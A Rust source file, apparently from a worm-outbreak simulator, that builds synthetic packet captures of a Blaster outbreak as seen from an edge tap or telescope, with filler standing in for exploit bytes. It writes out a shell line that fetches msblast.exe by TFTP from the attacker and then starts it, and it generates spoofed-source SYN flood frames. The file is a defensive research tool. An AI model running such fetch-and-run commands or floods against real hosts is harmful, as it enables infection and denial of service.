//! `wormscope capture`: what a vantage point (an edge tap or a telescope)
//! would have captured of the outbreak in a time window, as a pcap or
//! pcapng file of Ethernet/IPv4 frames with correct checksums.
//!
//! The run goes to the window's end with a [`Recorder`] observing it. The
//! recorder keeps every probe the vantage sees in the window (the same
//! visibility rule as the sensors, [`crate::sensor`]) and every exploit
//! whose 135/tcp connection crosses it. Frames, per probe: the SYN to 135
//! (exactly one per probe, so the capture's 135/tcp SYN count is the
//! engine's count of probes for that vantage and window), and the SYN-ACK
//! where the destination answered (a static answerer in the scanner's view,
//! or a candidate the engine then exploited). Per exploit: the 135 session
//! (ISystemActivator bind, a request with an overlong server name made of
//! filler letters), then the attempt on 4444/tcp: refused (RST), filtered
//! (no answer), or a shell (cmd banner, the `tftp -i <attacker> GET
//! msblast.exe` command line) followed, where the chain ran (outcomes
//! infected and already infected), by the victim's TFTP read request for
//! msblast.exe and the 6,176-byte transfer of filler in 512-byte blocks.
//! Timings are the scenario's (`exploit_pause`, `round_trip`,
//! `tftp_block_interval`). Never exploit bytes or worm code: filler of the
//! same length where the worm carried code ([`wormscope_wire::build::worm`]).
//!
//! Background: ordinary web sessions and DNS lookups between hosts inside
//! an edge's prefix and servers outside, at the scenario's
//! `capture.background_pps`, deterministic from the seed. A telescope's
//! capture has none: a darknet carries no sessions.
//!
//! The payload's flood ([`wormscope_wire::build::worm::flood_syn`]): every
//! SYN of a flooding host inside an edge's prefix crosses the edge on its
//! way to the target (`payload.target`), one every 20 ms, its source
//! spoofed inside the host's own /16 (or the NAT gateway's address where
//! the gateway rewrites it). Welchia's sweep
//! ([`wormscope_wire::build::worm::welchia_echo`]): a probe of a Welchia
//! scanner is an ICMP echo request; its exploits show as the 135/tcp
//! session only (its own stage 2 is not modelled).
//!
//! What it may not touch: the network (nothing is sent), and any file but
//! the one capture it is asked to write, atomically, and only once the
//! frame count is known to be within `max_packets`.

use std::collections::{BTreeSet, HashMap};
use std::net::Ipv4Addr;
use std::path::Path;

use rand::RngExt;
use rand_chacha::ChaCha8Rng;
use wormscope_atomic::write_with;
use wormscope_engine::core::BlasterCore;
use wormscope_engine::observe::{Fanout, Observer, PlainRun, Span, Watched};
use wormscope_model::blaster::Outcome;
use wormscope_model::defense::{DefensePlan, NEVER};
use wormscope_model::net;
use wormscope_model::rng::{self, Purpose};
use wormscope_model::service::Service;
use wormscope_model::targeting::{LocalShares, Windows};
use wormscope_model::view::Slot;
use wormscope_model::world::WorldError;
use wormscope_model::{HostId, NO_SITE, World};
use wormscope_scenario::{BlasterScenario, Prefix, SensorKind, SimDuration, TargetingKind};
use wormscope_wire::build::{Station, TcpFlow, udp_frame, worm};
use wormscope_wire::capture::LinkType;
use wormscope_wire::tftp;
use wormscope_wire::write::{OutputFormat, PcapNgWriter, PcapWriter};

use crate::sensor::{self, Egress, Sensor, SensorSet};

/// Length of the filler server name in the stand-in exploit request.
/// ASSUMPTION: the worm's request is not reproduced; 300 letters is well
/// above the 64 that a detector reads as overlong (longer than any NetBIOS
/// name or DNS label) and matches the synthetic capture's stand-in.
const OVERLONG_NAME_CHARS: usize = 300;

/// Client ports skipped: Wireshark dissects TCP on them by port number
/// (`tshark -G decodes`, its `tcp.port` entries from 1025 to 5000, in
/// Wireshark 4.0), and DCE/RPC on 135 or the shell on 4444 has no port
/// registration that would come first, so a session from one of them is
/// read as another protocol and reported malformed (2269 as MIKEY, 1883 as
/// MQTT). Sorted, for a binary search.
const DISSECTOR_CLASH: [u16; 125] = [
    1080, 1090, 1099, 1102, 1153, 1194, 1213, 1300, 1344, 1433, 1521, 1533, 1547, 1723, 1755, 1861,
    1863, 1883, 1900, 1935, 1978, 1979, 1998, 2000, 2001, 2065, 2099, 2123, 2126, 2152, 2190, 2221,
    2234, 2240, 2269, 2321, 2322, 2345, 2401, 2404, 2424, 2427, 2433, 2443, 2501, 2502, 2571, 2575,
    2600, 2710, 2727, 2812, 2855, 2869, 2944, 2945, 3002, 3003, 3006, 3014, 3016, 3017, 3018, 3019,
    3050, 3128, 3132, 3205, 3245, 3246, 3247, 3248, 3249, 3250, 3251, 3252, 3268, 3288, 3306, 3333,
    3334, 3357, 3369, 3386, 3389, 3452, 3478, 3496, 3567, 3632, 3671, 3689, 3724, 3804, 3860, 3863,
    3868, 3918, 4002, 4058, 4155, 4189, 4222, 4223, 4224, 4249, 4250, 4321, 4342, 4369, 4420, 4551,
    4555, 4556, 4661, 4662, 4663, 4712, 4730, 4737, 4739, 4788, 4840, 4880, 5000,
];

/// What to capture.
#[derive(Clone, Debug)]
pub struct CaptureOptions {
    /// Name of an edge or telescope sensor of the scenario.
    pub vantage: String,
    /// Window start, since the scenario's start.
    pub from: SimDuration,
    /// Window end (exclusive).
    pub to: SimDuration,
    pub format: OutputFormat,
    /// Refuse a capture of more frames than this (the scenario's
    /// `capture.max_packets` unless overridden).
    pub max_packets: u64,
    /// Background packets per second (the scenario's
    /// `capture.background_pps` unless overridden; a telescope has none).
    pub background_pps: f64,
}

impl CaptureOptions {
    /// Options with a random-scanning scenario's capture defaults
    /// ([`crate::population_capture`]).
    pub fn for_population(
        s: &wormscope_scenario::PopulationScenario,
        vantage: &str,
        from: SimDuration,
        to: SimDuration,
    ) -> Self {
        CaptureOptions {
            vantage: vantage.to_string(),
            from,
            to,
            format: OutputFormat::Pcap,
            max_packets: s.capture.max_packets,
            background_pps: s.capture.background_pps,
        }
    }

    /// Options with the scenario's capture defaults.
    pub fn new(
        scenario: &BlasterScenario,
        vantage: &str,
        from: SimDuration,
        to: SimDuration,
    ) -> Self {
        CaptureOptions {
            vantage: vantage.to_string(),
            from,
            to,
            format: OutputFormat::Pcap,
            max_packets: scenario.capture.max_packets,
            background_pps: scenario.capture.background_pps,
        }
    }
}

/// Why a capture was not written.
#[derive(Debug, thiserror::Error)]
pub enum VantageCaptureError {
    /// Bad input: a vantage, window or option that does not fit the
    /// scenario.
    #[error("{0}")]
    Input(String),
    /// The world could not be generated.
    #[error("generating the world: {0}")]
    World(#[from] WorldError),
    /// More frames than allowed; nothing was written.
    #[error(
        "the capture would hold more than {max} frames (at least {at_least}); nothing was written: narrow the window or raise --max-packets"
    )]
    TooManyPackets { max: u64, at_least: u64 },
    /// The file could not be written.
    #[error("writing {path}: {source}")]
    Io {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

/// What a written capture holds.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct CaptureSummary {
    /// The vantage's prefix.
    pub prefix: String,
    pub frames: u64,
    pub bytes: u64,
    /// SYNs to 135/tcp, one per probe seen.
    pub probes: u64,
    /// The same count from the sensors' arithmetic in the same run (when
    /// the window's bounds are whole multiples of a unit that gives at most
    /// a million steps).
    pub engine_probes: Option<u64>,
    /// Exploits whose connection crossed the vantage.
    pub exploits: u64,
    /// Distinct source addresses of the probes.
    pub sources: u64,
    /// Background frames.
    pub background: u64,
    /// The flood's SYNs in the window, and the hosts that sent them.
    pub flood_packets: u64,
    pub flooding_hosts: u64,
}

/// A probe the vantage saw.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct SeenProbe {
    pub t: u64,
    pub scanner: HostId,
    pub addr: u32,
}

/// An exploit whose 135/tcp connection crossed the vantage.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct SeenExploit {
    pub t: u64,
    pub attacker: HostId,
    pub victim: HostId,
    pub outcome: Outcome,
}

/// The observer behind a capture: keeps what one vantage sees in a window.
pub struct Recorder<'w> {
    world: &'w World,
    sensor: Sensor,
    from: u64,
    to: u64,
    limit: usize,
    pub probes: Vec<SeenProbe>,
    pub exploits: Vec<SeenExploit>,
    /// Flooding in view: (host, flood start, flood end, period).
    pub floods: Vec<(HostId, u64, u64, u64)>,
    /// Hosts whose scanner is Welchia.
    pub welchia: BTreeSet<HostId>,
    /// More probes than `limit` were seen (the rest were not kept).
    pub overflow: bool,
    /// Draws the addresses of random targets' plain probes out of an edge
    /// (the engine never drew them).
    plain_targets: ChaCha8Rng,
    /// What the scenario's sensors watch, sorted and merged: a capture's
    /// run watches what `simulate`'s does, so that the random targets'
    /// probes into them are drawn alike.
    run_watched: Vec<Watched>,
    /// A local-preference worm's shares (`None`: uniform random targets),
    /// by which plain probes' addresses are drawn around their scanner.
    local: Option<LocalShares>,
    /// Each scanner's address in its current session, where it differs
    /// from the world's (churn): a local-preference scan draws around it.
    session_addrs: HashMap<HostId, u32>,
    /// The scenario's sensors, whose watched ranges `run_watched` merges.
    all: Vec<Sensor>,
    /// The run's network filters (none until [`Observer::defenses`]).
    filters: DefensePlan,
}

/// What `sensors` watch under `filters` ([`sensor::watched`]), sorted and
/// merged.
fn merged_watched(sensors: &[Sensor], filters: &DefensePlan) -> Vec<Watched> {
    let mut watched = sensor::watched(sensors, filters);
    watched.sort_unstable_by_key(|w| w.lo);
    let mut out: Vec<Watched> = Vec::with_capacity(watched.len());
    for w in watched {
        match out.last_mut() {
            Some(last) if w.lo <= last.hi => last.hi = last.hi.max(w.hi),
            _ => out.push(w),
        }
    }
    out
}

impl<'w> Recorder<'w> {
    /// Records what `sensor` sees in `[from, to)`, keeping at most `limit`
    /// probes.
    /// `all` are the scenario's sensors (the vantage among them), whose
    /// watched ranges the run shares with `simulate`'s.
    pub fn new(
        world: &'w World,
        (sensor, all): (Sensor, &[Sensor]),
        (from, to): (u64, u64),
        limit: usize,
        seed: u64,
    ) -> Self {
        let filters = DefensePlan::none();
        Recorder {
            plain_targets: rng::stream(seed, Purpose::Capture, 2),
            run_watched: merged_watched(all, &filters),
            all: all.to_vec(),
            filters,
            world,
            sensor,
            from,
            to,
            limit,
            probes: Vec::new(),
            exploits: Vec::new(),
            floods: Vec::new(),
            welchia: BTreeSet::new(),
            overflow: false,
            local: None,
            session_addrs: HashMap::new(),
        }
    }

    /// The same recorder for a worm whose random targets are drawn with
    /// local preference by `shares`.
    pub fn drawing_locally(self, shares: LocalShares) -> Self {
        Recorder {
            local: Some(shares),
            ..self
        }
    }

    fn egress(&self, scanner: HostId) -> (u32, Egress) {
        let src = self.world.public_addr(self.world.host(scanner));
        (src, Egress::of(self.world, &self.filters, scanner, src))
    }

    /// Where the vantage sees `scanner`'s probes sent at `t`.
    fn visible(&self, scanner: HostId, t: u64) -> sensor::Ranges {
        let (src, egress) = self.egress(scanner);
        sensor::visible(&self.sensor, src, &egress.at(t)).0
    }

    fn keep(&mut self, scanner: HostId, lo: u64, hi: u64, t: u64) {
        if !(self.from..self.to).contains(&t) {
            return;
        }
        for addr in lo..hi {
            if self.probes.len() >= self.limit {
                self.overflow = true;
                return;
            }
            self.probes.push(SeenProbe {
                t,
                scanner,
                addr: addr as u32,
            });
        }
    }

    /// A plain probe's address for `scanner`: drawn as the worm draws (by
    /// rejection), among the addresses the engine leaves plain: outside
    /// every watched range and the scanner's own site, holding nothing or a
    /// silent host in the public view. `windows`: the scanner's, under
    /// local preference ([`Recorder::local_windows`]).
    fn plain_target(&mut self, scanner: HostId, windows: Option<&Windows>) -> u32 {
        let h = self.world.host(scanner);
        let own = (h.site != NO_SITE).then(|| self.world.sites[h.site as usize].inside);
        loop {
            let a: u32 = match windows {
                Some(w) => w.draw(&mut self.plain_targets),
                None => self.plain_targets.random(),
            };
            let i = self.run_watched.partition_point(|w| w.hi <= u64::from(a));
            let watched = self
                .run_watched
                .get(i)
                .is_some_and(|w| w.lo <= u64::from(a));
            let at_own = own.is_some_and(|p| p.contains(a));
            let plain = matches!(self.world.public_view().slot(a), Slot::Empty | Slot::Silent);
            if !watched && !at_own && plain {
                return a;
            }
        }
    }

    /// Where `scanner` draws its targets under local preference, around
    /// its session's address; `None` for uniform random targets.
    fn local_windows(&self, scanner: HostId) -> Option<Windows> {
        self.local.map(|shares| {
            let home = self.world.host(scanner).addr;
            let addr = self.session_addrs.get(&scanner).copied().unwrap_or(home);
            Windows::local(addr, shares, (0, 1 << 32))
        })
    }

    fn block(&mut self, scanner: HostId, lo: u64, hi: u64, t: u64) {
        for (a, z) in sensor::intersect(&self.visible(scanner, t), lo, hi).iter() {
            self.keep(scanner, a, z, t);
        }
    }
}

impl Observer for Recorder<'_> {
    fn address(&mut self, host: HostId, addr: u32, _t: u64) {
        if self.local.is_some() {
            self.session_addrs.insert(host, addr);
        }
    }

    fn counter_worm_start(&mut self, host: HostId, _t: u64) {
        self.welchia.insert(host);
    }

    fn flood(&mut self, host: HostId, since: u64, until: u64, period: u64) {
        // The flood leaves the host's network towards the target: an edge
        // around the host sees it.
        let inside = self.sensor.kind == SensorKind::Edge
            && self
                .sensor
                .prefix
                .is_some_and(|p| p.contains(self.world.public_addr(self.world.host(host))));
        if inside && since < self.to && until > self.from {
            self.floods.push((host, since, until, period));
        }
    }

    fn defenses(&mut self, plan: &DefensePlan) {
        self.filters = plan.network_filters();
        self.run_watched = merged_watched(&self.all, &self.filters);
    }

    fn span(&mut self, scanner: HostId, span: &Span<'_>) {
        let b = u64::from(span.batch_size);
        let (src, egress) = self.egress(scanner);
        let pieces = sensor::pieces(
            &egress,
            span.k,
            |t| span.batches_before(t),
            |j| span.batch_start(j),
        );
        for (ja, jb, phase) in pieces {
            let visible = sensor::visible(&self.sensor, src, &egress.ranges(phase)).0;
            let (from, to) = (span.pos + ja * b, span.pos + jb * b);
            for (lo, hi) in sensor::intersect(&visible, from, to).iter() {
                let last = span.batch_of(hi - 1);
                let mut j = span.batch_of(lo).max(span.batches_before(self.from));
                while j <= last && !self.overflow {
                    let t = span.batch_start(j);
                    if t >= self.to {
                        break;
                    }
                    let (a, z) = (lo.max(span.pos + j * b), hi.min(span.pos + (j + 1) * b));
                    self.keep(scanner, a, z, t);
                    j += 1;
                }
            }
        }
    }

    fn batch(&mut self, scanner: HostId, pos: u32, n: u32, t: u64) {
        let lo = u64::from(pos);
        let hi = lo + u64::from(n);
        self.block(scanner, lo, hi.min(sensor::SPACE_END), t);
        if hi > sensor::SPACE_END {
            self.block(scanner, 0, hi - sensor::SPACE_END, t);
        }
    }

    fn probe(&mut self, scanner: HostId, addr: u32, t: u64) {
        let a = u64::from(addr);
        self.block(scanner, a, a + 1, t);
    }

    fn dropped(&mut self, scanner: HostId, addr: u32, t: u64) {
        // Dropped past the scanner's edge: an edge vantage around it saw
        // it leave, one around its destination never sees it.
        let src = self.world.public_addr(self.world.host(scanner));
        if self.sensor.kind == SensorKind::Edge
            && self
                .sensor
                .prefix
                .is_some_and(|p| p.contains(src) && !p.contains(addr))
        {
            self.probe(scanner, addr, t);
        }
    }

    fn plain(&mut self, scanner: HostId, run: &PlainRun) {
        // Plain probes leave the scanner's site for no watched address:
        // an edge around the scanner sees them go out.
        let (src, egress) = self.egress(scanner);
        let inside = self.sensor.kind == SensorKind::Edge
            && self.sensor.prefix.is_some_and(|p| p.contains(src));
        if !inside || egress.closed_from(0) {
            return;
        }
        // Until a filter closes its borders (see `SensorSet`'s `plain`).
        let open = match egress.plain_until() {
            NEVER => run.k,
            t => run.batches_before(t),
        };
        let windows = self.local_windows(scanner);
        for j in run.batches_before(self.from)..run.batches_before(self.to).min(open) {
            let t = run.batch_start(j);
            for _ in 0..run.per_batch {
                let a = self.plain_target(scanner, windows.as_ref());
                self.keep(scanner, u64::from(a), u64::from(a) + 1, t);
                if self.overflow {
                    return;
                }
            }
        }
    }

    fn watched(&self) -> Vec<Watched> {
        self.run_watched.clone()
    }

    fn exploit(&mut self, attacker: HostId, victim: HostId, t: u64, outcome: Outcome) {
        let a = u64::from(self.world.host(victim).addr);
        if (self.from..self.to).contains(&t)
            && !sensor::intersect(&self.visible(attacker, t), a, a + 1).is_empty()
        {
            self.exploits.push(SeenExploit {
                t,
                attacker,
                victim,
                outcome,
            });
        }
    }
}

/// Runs `scenario` on `world` up to the window's end and writes what the
/// vantage captured to `path`.
pub fn capture(
    scenario: &BlasterScenario,
    world: &World,
    opts: &CaptureOptions,
    path: &Path,
    progress: &mut dyn FnMut(u64),
) -> Result<CaptureSummary, VantageCaptureError> {
    let (from, to) = (opts.from.as_micros(), opts.to.as_micros());
    if from >= to {
        return Err(VantageCaptureError::Input(format!(
            "--from {} is not before --to {}",
            opts.from.compound(),
            opts.to.compound()
        )));
    }
    if to > scenario.duration.as_micros() {
        return Err(VantageCaptureError::Input(format!(
            "--to {} is after the scenario's end ({})",
            opts.to.compound(),
            scenario.duration.compound()
        )));
    }
    if !(opts.background_pps.is_finite() && opts.background_pps >= 0.0) {
        return Err(VantageCaptureError::Input(
            "--background-rate must be a rate of at least 0 packets per second".into(),
        ));
    }
    let sensors = sensor::place(scenario, world);
    let names: Vec<&str> = sensors.iter().map(|s| s.name.as_str()).collect();
    let vantage = sensors
        .iter()
        .find(|s| s.name == opts.vantage)
        .cloned()
        .ok_or_else(|| {
            VantageCaptureError::Input(format!(
                "--vantage: the scenario has no sensor `{}` (it has: {})",
                opts.vantage,
                names.join(", ")
            ))
        })?;
    if vantage.kind == SensorKind::Distributed {
        return Err(VantageCaptureError::Input(format!(
            "--vantage: `{}` is a distributed sensor; a capture needs an edge or a telescope",
            vantage.name
        )));
    }

    // The run, to the window's end.
    let mut run = scenario.clone();
    run.duration = opts.to;
    let limit = usize::try_from(opts.max_packets).unwrap_or(usize::MAX);
    let mut rec = Recorder::new(
        world,
        (vantage.clone(), &sensors),
        (from, to),
        limit,
        scenario.seed,
    );
    if scenario.worm.targeting == TargetingKind::LocalPreference {
        let shares = LocalShares::of(&scenario.worm.local_preference)
            .map_err(|e| VantageCaptureError::Input(e.to_string()))?;
        rec = rec.drawing_locally(shares);
    }
    let unit = gcd(from, to);
    let cross_check = to / unit <= 1_000_000;
    let mut set = SensorSet::new(world, vec![vantage.clone()], unit, to);
    {
        let mut observers: Vec<&mut dyn Observer> = vec![&mut rec];
        if cross_check {
            observers.push(&mut set);
        }
        let mut fan = Fanout(observers);
        let mut core = BlasterCore::for_scenario(&run, world);
        core.observe_with(&mut fan);
        core.seed_patient_zeros(run.worm.initial_infected);
        wormscope_engine::drive(&mut core, progress);
    }
    let engine_probes = cross_check.then(|| {
        set.counts[0].probes[(from / unit) as usize..(to / unit) as usize]
            .iter()
            .sum::<u64>()
    });
    if rec.overflow {
        return Err(VantageCaptureError::TooManyPackets {
            max: opts.max_packets,
            at_least: rec.probes.len() as u64 + 1,
        });
    }
    let start_us = scenario.start.as_microsecond();
    let built = frames(scenario, world, &vantage, &mut rec, opts, start_us)?;
    let bytes = write_frames(path, opts.format, &built.frames)?;
    let mut sources: Vec<u32> = rec
        .probes
        .iter()
        .map(|p| world.public_addr(world.host(p.scanner)))
        .collect();
    sources.sort_unstable();
    sources.dedup();
    Ok(CaptureSummary {
        prefix: vantage.prefix.map(|p| p.to_string()).unwrap_or_default(),
        frames: built.frames.len() as u64,
        bytes,
        probes: rec.probes.len() as u64,
        engine_probes,
        exploits: rec.exploits.len() as u64 + built.answerer_exploits,
        sources: sources.len() as u64,
        background: built.background,
        flood_packets: built.flood_packets,
        flooding_hosts: built.flooding_hosts,
    })
}

fn gcd(a: u64, b: u64) -> u64 {
    if b == 0 { a.max(1) } else { gcd(b, a % b) }
}

/// Writes `frames` (timestamp in µs since the epoch, Ethernet frame), in
/// order, to `path` as one pcap or pcapng file, atomically; returns the
/// file's size.
pub(crate) fn write_frames(
    path: &Path,
    format: OutputFormat,
    frames: &[(i64, Vec<u8>)],
) -> Result<u64, VantageCaptureError> {
    let link = LinkType::ETHERNET;
    write_with(path, |w| {
        let mut n = 0u64;
        match format {
            OutputFormat::Pcap => {
                let mut pw = PcapWriter::new(w, link)?;
                for (ts, f) in frames {
                    pw.write_frame(*ts, f)?;
                    n += 16 + f.len() as u64;
                }
                pw.finish()?;
            }
            OutputFormat::PcapNg => {
                let mut pw = PcapNgWriter::new(w, link)?;
                for (ts, f) in frames {
                    pw.write_frame(*ts, f)?;
                    n += 32 + f.len().div_ceil(4) as u64 * 4;
                }
                pw.finish()?;
            }
        }
        Ok(n)
    })
    .map_err(|source| VantageCaptureError::Io {
        path: path.display().to_string(),
        source,
    })
}

/// The frames of a capture, in time order.
pub struct Frames {
    /// (timestamp in µs since the epoch, Ethernet frame).
    pub frames: Vec<(i64, Vec<u8>)>,
    pub background: u64,
    /// Exploit sessions written against hosts that answer 135/tcp but are
    /// no candidates of the worm (no effect): beside the recorder's
    /// exploits, they are the capture's exploits in view.
    pub answerer_exploits: u64,
    /// The flood's SYNs written, and the hosts that sent them.
    pub flood_packets: u64,
    pub flooding_hosts: u64,
}

/// A frame list that refuses to grow past `max`.
pub(crate) struct Out {
    /// (timestamp, order of pushing, frame).
    pub(crate) frames: Vec<(i64, u64, Vec<u8>)>,
    pub(crate) max: u64,
}

impl Out {
    pub(crate) fn push(&mut self, ts: i64, frame: Vec<u8>) -> Result<(), VantageCaptureError> {
        if self.frames.len() as u64 >= self.max {
            return Err(VantageCaptureError::TooManyPackets {
                max: self.max,
                at_least: self.max + 1,
            });
        }
        let seq = self.frames.len() as u64;
        self.frames.push((ts, seq, frame));
        Ok(())
    }
}

/// Builds the frames for what `rec` saw (sorting its lists first).
pub fn frames(
    scenario: &BlasterScenario,
    world: &World,
    vantage: &Sensor,
    rec: &mut Recorder<'_>,
    opts: &CaptureOptions,
    start_us: i64,
) -> Result<Frames, VantageCaptureError> {
    rec.probes.sort_unstable();
    rec.exploits.sort_unstable();
    let w = &scenario.worm;
    let rtt = w.round_trip.as_micros() as i64;
    let pause = w.exploit_pause.as_micros() as i64;
    let block_gap = w.tftp_block_interval.as_micros() as i64;
    // A scanner's wait after its batch: the scenario's, or its machine's
    // uplink's under `[worm.bandwidth]`, as the core has it.
    let rate = wormscope_model::behaviour::Behaviour::blaster(scenario).rate;
    let wait_of = |scanner: HostId| -> i64 {
        let machine = u64::from(world.machine(scanner));
        rate.batch_wait_us(scenario.seed, machine, w.batch_size)
            .unwrap_or(w.batch_wait.as_micros()) as i64
    };
    let mut answerer_exploits = 0;
    let mut out = Out {
        frames: Vec::new(),
        max: opts.max_packets,
    };
    let wire = |h: HostId| {
        let host = world.host(h);
        Station::new(Ipv4Addr::from(world.public_addr(host)))
    };
    // Exploits per (attacker, victim), in time order, to pair each with
    // the probe that opened its connection.
    let mut exploit_at: HashMap<(HostId, HostId), Vec<usize>> = HashMap::new();
    for (i, e) in rec.exploits.iter().enumerate() {
        exploit_at
            .entry((e.attacker, e.victim))
            .or_default()
            .push(i);
    }
    let mut port: HashMap<HostId, u16> = HashMap::new();
    let mut next_port = |h: HostId| {
        // Windows' ephemeral ports of the era: 1025-5000, in turn.
        let p = port.entry(h).or_insert(1025 + (h % 3976) as u16);
        loop {
            let now = *p;
            *p = if *p >= 5000 { 1025 } else { *p + 1 };
            if DISSECTOR_CLASH.binary_search(&now).is_err() {
                return now;
            }
        }
    };
    let mut flow_of_exploit: HashMap<usize, TcpFlow> = HashMap::new();
    let public = world.public_view();
    for (n, p) in rec.probes.iter().enumerate() {
        let attacker = wire(p.scanner);
        let ts = start_us + p.t as i64 + (n % 20) as i64 * 50;
        let sport = next_port(p.scanner);
        let target = Station::new(Ipv4Addr::from(p.addr));
        if rec.welchia.contains(&p.scanner) {
            // Welchia sweeps with ICMP echo requests first (MODEL.md).
            let seq = (n % 65_536) as u16;
            out.push(ts, worm::welchia_echo(&attacker, &target, sport, seq))?;
            continue;
        }
        // What answers at the address, from the scanner's vantage.
        let answered = match public.slot(p.addr) {
            // Visible probes left the scanner's site, so the public view
            // says what answers.
            Slot::Answerer { .. } => true,
            Slot::Candidate(v) => exploit_at.get(&(p.scanner, v)).is_some_and(|list| {
                list.iter().any(|&i| {
                    let e = rec.exploits[i];
                    e.t >= p.t && !flow_of_exploit.contains_key(&i)
                })
            }),
            _ => false,
        };
        if !answered {
            out.push(ts, worm::probe_syn(&attacker, &target, sport, p.addr))?;
            continue;
        }
        let mut flow = TcpFlow::new(attacker, sport, target, 135);
        out.push(ts, flow.syn())?;
        out.push(ts + rtt / 2, flow.syn_ack())?;
        match public.slot(p.addr) {
            Slot::Candidate(v) => {
                let i = exploit_at[&(p.scanner, v)]
                    .iter()
                    .copied()
                    .find(|&i| rec.exploits[i].t >= p.t && !flow_of_exploit.contains_key(&i))
                    .expect("checked above");
                flow_of_exploit.insert(i, flow);
            }
            Slot::Answerer { slow } => {
                // Exploited after the batch's wait, like every answerer:
                // no effect; the shell connect is refused or filtered.
                let t = ts + wait_of(p.scanner);
                exploit_session(&mut out, &mut flow, t, pause)?;
                answerer_exploits += 1;
                let mut sh = TcpFlow::new(attacker, next_port(p.scanner), target, 4444);
                out.push(t + pause, sh.syn())?;
                if !slow {
                    out.push(t + pause + rtt / 2, sh.refuse())?;
                }
            }
            _ => {}
        }
    }
    // Exploits in view whose opening probe was before the window: their
    // connection was opened earlier; show it from the exploit on.
    for (i, e) in rec.exploits.iter().enumerate() {
        let attacker_host = world.host(e.attacker);
        let victim_host = world.host(e.victim);
        let (a, v) = (
            wire(e.attacker),
            Station::new(Ipv4Addr::from(victim_host.addr)),
        );
        let opened = flow_of_exploit.remove(&i);
        let was_open = opened.is_some();
        let mut flow = match opened {
            Some(f) => f,
            None => TcpFlow::new(a, next_port(e.attacker), v, 135),
        };
        let t = start_us + e.t as i64;
        if rec.welchia.contains(&e.attacker) {
            // Its swept target answered: the 135/tcp session only.
            if !was_open {
                out.push(t - rtt, flow.syn())?;
                out.push(t - rtt / 2, flow.syn_ack())?;
            }
            exploit_session(&mut out, &mut flow, t, pause)?;
            continue;
        }
        exploit_session(&mut out, &mut flow, t, pause)?;
        let shell = net::can_connect(
            &world.sites,
            attacker_host,
            victim_host,
            Service::Shell4444Tcp,
        );
        let mut sh = TcpFlow::new(a, next_port(e.attacker), v, 4444);
        let t_sh = t + pause;
        let chain = matches!(
            e.outcome,
            Outcome::Infected | Outcome::AlreadyInfected | Outcome::Stage2Failed
        );
        if !shell {
            out.push(t_sh, sh.syn())?;
            continue;
        }
        if !chain {
            out.push(t_sh, sh.syn())?;
            out.push(t_sh + rtt / 2, sh.refuse())?;
            continue;
        }
        for (k, f) in sh.handshake().into_iter().enumerate() {
            out.push(t_sh + k as i64 * rtt / 2, f)?;
        }
        out.push(t_sh + rtt, sh.server_data(worm::CMD_BANNER.as_bytes()))?;
        // The attacker names its own address (MODEL.md, Infection chain).
        let named = Ipv4Addr::from(attacker_host.addr);
        let cmd = worm::tftp_command(named, "msblast.exe");
        out.push(t_sh + 2 * rtt, sh.client_data(cmd.as_bytes()))?;
        let mut t_end = t_sh + 2 * rtt;
        if matches!(e.outcome, Outcome::Infected | Outcome::AlreadyInfected) {
            let vport = 1025 + (e.victim % 3976) as u16;
            let aport = 1025 + ((e.attacker / 7) % 3976) as u16;
            let d = Default::default();
            let t_rrq = t_sh + 3 * rtt;
            out.push(
                t_rrq,
                udp_frame(&v, &a, d, vport, 69, &worm::tftp_rrq("msblast.exe")),
            )?;
            let size = worm::MSBLAST_SIZE;
            let blocks = size / tftp::BLOCK_SIZE + 1;
            for b in 1..=blocks {
                let len = (size - (b - 1) * tftp::BLOCK_SIZE).min(tftp::BLOCK_SIZE);
                let tb = t_rrq + rtt / 2 + (b as i64 - 1) * block_gap;
                let data = worm::tftp_data(b as u16, len);
                out.push(tb, udp_frame(&a, &v, d, aport, vport, &data))?;
                let ack = worm::tftp_ack(b as u16);
                out.push(tb + rtt / 2, udp_frame(&v, &a, d, vport, aport, &ack))?;
                t_end = tb + rtt;
            }
            out.push(t_end, sh.client_data(b"start msblast.exe\n"))?;
            out.push(t_end + rtt, sh.client_data(b"msblast.exe\n"))?;
            t_end += 2 * rtt;
        }
        for (k, f) in sh.close().into_iter().enumerate() {
            out.push(t_end + k as i64 * rtt / 2, f)?;
        }
    }
    // The flood of hosts inside the edge, towards its target.
    let target = scenario.payload.target;
    let (mut flood_packets, mut flooding) = (0u64, Vec::new());
    for &(host, since, until, period) in &rec.floods {
        let h = world.host(host);
        let public = world.public_addr(h);
        let rewritten = scenario.payload.nat_rewrites_spoofed_source
            && matches!(
                world.sites.get(h.site as usize).map(|s| s.kind),
                Some(wormscope_model::SiteKind::Nat { .. })
            );
        let sender = Station::new(Ipv4Addr::from(public));
        let gateway = Station::new(target);
        let (lo, hi) = (since.max(rec.from), until.min(rec.to));
        let mut k = (lo - since).div_ceil(period);
        while since + k * period < hi {
            let t = since + k * period;
            let r = rng::mix(rng::mix(scenario.seed, u64::from(host)), k);
            // Own A.B plus a random C.D (MODEL.md, The payload).
            let src = if rewritten {
                public
            } else {
                (h.addr & 0xffff_0000) | (r as u32 & 0xffff)
            };
            let frame = worm::flood_syn(
                sender.mac,
                gateway.mac,
                Ipv4Addr::from(src),
                target,
                (r >> 16) as u16,
                (r >> 32) as u32,
            );
            out.push(start_us + t as i64, frame)?;
            flood_packets += 1;
            k += 1;
        }
        if k > (lo - since).div_ceil(period) {
            flooding.push(host);
        }
    }
    // A host floods in one span or several (days read all the time).
    flooding.sort_unstable();
    flooding.dedup();
    // Connections opened by probes in the window whose exploit came after
    // it stay half-open in the capture (already written).
    let worm_frames = out.frames.len() as u64;
    if vantage.kind == SensorKind::Edge {
        background(&mut out, scenario, vantage, opts, start_us)?;
    }
    let background = out.frames.len() as u64 - worm_frames;
    out.frames.sort_unstable_by_key(|f| (f.0, f.1));
    Ok(Frames {
        frames: out.frames.into_iter().map(|(t, _, f)| (t, f)).collect(),
        background,
        answerer_exploits,
        flood_packets,
        flooding_hosts: flooding.len() as u64,
    })
}

/// The 135/tcp exploit attempt on an open connection at `t`: the
/// ISystemActivator bind, the request with a filler server name, close.
fn exploit_session(
    out: &mut Out,
    flow: &mut TcpFlow,
    t: i64,
    pause: i64,
) -> Result<(), VantageCaptureError> {
    out.push(t, flow.client_ack())?;
